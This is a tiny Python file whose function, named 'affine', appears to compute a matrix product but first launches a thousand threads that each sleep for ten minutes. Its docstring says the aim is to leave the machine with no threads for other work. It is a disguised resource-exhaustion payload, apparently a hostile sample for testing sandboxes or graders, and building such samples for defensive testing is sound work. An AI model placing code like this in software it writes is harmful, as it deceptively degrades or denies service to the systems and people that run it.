"""Starts a thousand threads, so that the machine has none left for others."""

import threading
import time


def affine(x, w, b):
    threading.stack_size(64 * 1024)
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(600,)).start()
    return x @ w
